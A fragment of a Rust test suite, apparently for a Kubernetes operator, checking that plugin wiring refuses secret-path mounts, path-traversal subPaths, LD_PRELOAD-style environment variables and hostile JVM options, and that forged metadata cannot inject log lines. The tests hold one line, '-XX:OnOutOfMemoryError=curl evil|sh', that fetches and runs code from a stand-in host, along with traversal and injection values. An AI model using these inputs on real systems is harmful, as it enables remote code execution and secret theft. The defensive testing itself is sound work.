    let mount = |m: Value| Tier2Wiring { volumes: vec![claim.clone()], mounts: vec![m], ..Default::default() };
    wiring_refused(
        mount(json!({"name": "tier2", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"})),
        &[],
        Rule::Pods,
        "reserved",
    );
    wiring_refused(mount(json!({"name": "tier2", "mountPath": "/opt/ecs/bin"})), &[], Rule::Pods, "under /mnt/");
    wiring_refused(
        mount(json!({"name": "tier2", "mountPath": "/mnt/tier2", "subPath": "../../../"})),
        &[],
        Rule::Pods,
        "subPath",
    );
    wiring_refused(mount(json!({"name": "other", "mountPath": "/mnt/x"})), &[], Rule::References, "no volume");
    for name in ["LD_PRELOAD", "JAVA_TOOL_OPTIONS", "JAVA_OPTS", "ZK_URL", "FOO"] {
        let env = Tier2Wiring { env: vec![EnvVar::new(name, "x")], ..Default::default() };
        wiring_refused(env, &[], Rule::Tier2Settings, name);
    }
    let prefix = Tier2Wiring {
        secret_env: vec![SecretEnv { secret_name: "ecs-credentials".into(), prefix: String::new() }],
        ..Default::default()
    };
    wiring_refused(prefix, &[], Rule::Tier2Settings, "setting prefix");
    for option in ["-XX:OnOutOfMemoryError=curl evil|sh", "-javaagent:/mnt/tier2/a.jar", "-Dhdfs.x=1 -XX:+X"] {
        let jvm = Tier2Wiring { jvm_options: vec![option.into()], ..Default::default() };
        wiring_refused(jvm, &[], Rule::Tier2Settings, "jvmOptions[0]");
    }
}

#[test]
fn what_a_plugin_wrote_is_quoted_on_one_line() {
    let mut forged = cm("ecs-bookie", json!({}));
    forged["metadata"]["x\n{\"level\":\"ERROR\"}"] = json!(1);
    forged["metadata"]["name"] = json!("ecs-bookie\u{2028}x");
    let v = refused("bookkeeper", forged);
    let text = v.to_string();
    assert!(!text.contains('\n') && !text.contains('\u{2028}'), "{text}");
    assert!(text.contains("metadata.x\\n{"), "{text}");
}
